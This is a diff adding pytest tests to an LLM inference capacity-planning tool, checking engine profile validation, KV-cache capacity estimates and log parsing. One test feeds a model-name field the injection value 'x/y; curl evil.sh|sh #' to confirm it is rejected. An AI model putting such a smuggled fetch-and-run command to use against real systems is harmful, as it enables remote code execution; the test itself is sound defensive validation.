@@ -180,3 +180,49 @@ def test_profiles_name_what_is_wrong():
         EngineProfile(model="custom", gpu="H100")
     with pytest.raises(ValueError, match="max_input_len must be smaller"):
         EngineProfile(model="llama-3.1-8b", gpu="H100", max_input_len=8192, max_seq_len=4096)
+
+
+def test_profiles_refuse_what_the_gpu_or_model_cannot_do():
+    with pytest.raises(ValueError, match="A100-80GB .* no FP8"):
+        EngineProfile(model="llama-3.1-8b", gpu="A100-80GB", weight_dtype="fp8")
+    with pytest.raises(ValueError, match="beyond the model's context of 32,768"):
+        EngineProfile(model="qwen2.5-7b", gpu="H100", max_input_len=1024, max_seq_len=65536)
+    with pytest.raises(ValueError, match="kv_dtype"):
+        EngineProfile(model="llama-3.1-8b", gpu="H100", kv_dtype="int4")
+    with pytest.raises(ValueError, match="hf_model"):
+        EngineProfile(model="llama-3.1-8b", gpu="H100", hf_model="x/y; curl evil.sh|sh #")
+
+
+def test_a_logged_capacity_wins_and_what_ifs_are_scaled_estimates():
+    logged = PROFILE.model_copy(update={"measured_kv_tokens": 100_000})
+    estimate = PROFILE.model_copy(update={"measured_kv_tokens": None})
+    t = _traffic()
+    rec, _ = proposed_bounds(logged, t, 256)
+    r = rightsize("chat-8b", logged, t, rec, (0, 0))
+    assert r.memory_now.measured and r.memory_now.kv_capacity_tokens == 100_000
+    h200 = next(w for w in r.whatifs if w.label.startswith("H200"))
+    assert not h200.memory.measured  # another GPU is an estimate, never the old log
+    plain = next(
+        w for w in rightsize("x", estimate, t, rec, (0, 0)).whatifs if w.label.startswith("H200")
+    )
+    # scaled by logged / estimated for today's build
+    now_estimate = rightsize("x", estimate, t, rec, (0, 0)).memory_now.kv_capacity_tokens
+    ratio = 100_000 / now_estimate
+    assert abs(h200.memory.kv_capacity_tokens - plain.memory.kv_capacity_tokens * ratio) <= 1
+    # a logged capacity also settles "fits": the estimate's budget does not matter then
+    tiny = PROFILE.model_copy(update={"gpu_memory_gib": 10.0, "measured_kv_tokens": 20_000})
+    assert rightsize("tiny", tiny, t, rec, (0, 0)).status == "ok"
+
+
+def test_tensorrt_llm_memory_fraction_is_a_share_of_free_memory():
+    model = MODELS["llama-3.1-8b"]
+    kw = {"gpu_memory_bytes": 80 * GB, "gpus": 1, "weight_dtype": "bf16", "kv_dtype": "bf16"}
+    vllm = replica_memory(model, memory_fraction=0.9, overhead=4 * GB, **kw)
+    trt = replica_memory(model, memory_fraction=0.9, overhead=4 * GB, fraction_of_free=True, **kw)
+    assert vllm.kv_budget == pytest.approx(80 * GB * 0.9 - vllm.weights - 4 * GB)
+    assert trt.kv_budget == pytest.approx((80 * GB - trt.weights - 4 * GB) * 0.9)
+
+
+def test_block_counts_of_several_ranks_take_the_smallest():
+    log = "rank0 # GPU blocks: 3000, # CPU blocks: 2048\nrank1 # GPU blocks: 2900, # CPU blocks: 1"
+    assert parse_startup_log(log).kv_tokens == 2900 * 16
